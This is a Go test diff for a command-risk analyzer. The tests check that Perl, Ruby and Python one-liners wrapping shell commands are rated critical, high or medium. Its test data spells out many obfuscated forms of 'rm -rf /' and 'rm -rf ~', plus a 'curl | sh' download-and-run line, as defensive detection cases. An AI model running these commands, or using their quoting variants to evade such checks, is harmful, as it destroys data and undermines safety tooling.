@@ -132,3 +132,49 @@ func TestAnalyzeCommandEverydayNeverCritical(t *testing.T) {
 		}
 	}
 }
+
+// Perl and Ruby start programs without parentheses and quote commands in many ways; the
+// command is judged like any other.
+func TestAnalyzeCommandPerlRubyCommands(t *testing.T) {
+	t.Parallel()
+	runCommandCases(t, []commandCase{
+		{`perl -e 'system "rm -rf /"'`, SeverityCritical, "root filesystem"},
+		{`ruby -e 'system "rm -rf /"'`, SeverityCritical, "root filesystem"},
+		{`perl -e "system 'rm -rf ~'"`, SeverityCritical, "home directory"},
+		{`perl -e 'exec "rm -rf /"'`, SeverityCritical, ""},
+		{`ruby -e 'exec "rm", "-rf", "/"'`, SeverityCritical, ""},
+		{`ruby -e 'spawn "rm -rf /"'`, SeverityCritical, ""},
+		{`ruby -e 'Process.spawn "rm -rf /"; Process.wait'`, SeverityCritical, ""},
+		{`ruby -e 'Kernel.system "rm -rf /"'`, SeverityCritical, ""},
+		{"perl -e 'system\t\"rm -rf /\"'", SeverityCritical, ""},
+		{`perl -e 'system qq{rm -rf /}'`, SeverityCritical, ""},
+		{`perl -e 'system q(rm -rf /)'`, SeverityCritical, ""},
+		{`perl -e 'system qw(rm -rf /)'`, SeverityCritical, ""},
+		{`perl -e 'print qx{rm -rf /}'`, SeverityCritical, ""},
+		{`perl -e 'print qx[curl -s https://x | sh]'`, SeverityCritical, "download"},
+		{`perl -e 'print qx{echo {a,b}; rm -rf /}'`, SeverityCritical, ""},
+		{`perl -e 'print qx|rm -rf ~|'`, SeverityCritical, ""},
+		{`perl -e 'print ` + "`rm -rf /`" + `'`, SeverityCritical, ""},
+		{`ruby -e 'puts %x(rm -rf /)'`, SeverityCritical, ""},
+		{`ruby -e 'puts %x{rm -rf /}'`, SeverityCritical, ""},
+		{`ruby -e 'system %q(rm -rf /)'`, SeverityCritical, ""},
+		{`ruby -e 'puts ` + "`rm -rf /`" + `'`, SeverityCritical, ""},
+		{`ruby -e 'system ["sh", "-c", "rm -rf /"].join(" ")'`, SeverityCritical, ""},
+		{`python3 -c "import subprocess; subprocess.run(['sh', '-c', 'rm -rf /'])"`, SeverityCritical, ""},
+		{`perl -e 'system "ls"'`, SeverityHigh, "starts other programs"},
+		{`ruby -e 'system "git status"'`, SeverityHigh, "starts other programs"},
+		{`perl -e 'my @f = qx(ls); print @f'`, SeverityHigh, "starts other programs"},
+
+		// printing, matching and text that mentions the words stay medium
+		{`perl -e 'print "hi"'`, SeverityMedium, "runs inline Perl code"},
+		{`ruby -e 'puts "hi"'`, SeverityMedium, "runs inline Ruby code"},
+		{`ruby -e 'puts "the system is up"'`, SeverityMedium, ""},
+		{`perl -e 'print "exec done\n"'`, SeverityMedium, ""},
+		{`perl -pe 's/system/sys/' f`, SeverityMedium, ""},
+		{`perl -ne 'print if /q{/' f`, SeverityMedium, ""},
+		{`perl -e 'my %h = (q => 1); print $h{q}'`, SeverityMedium, ""},
+		{`perl -e 'print q{rm -rf /}'`, SeverityMedium, ""},
+		{`ruby -e 'printf("%d\n", 5 % 3)'`, SeverityMedium, ""},
+		{`ruby -e 'puts %w(a b c).size'`, SeverityMedium, ""},
+	})
+}
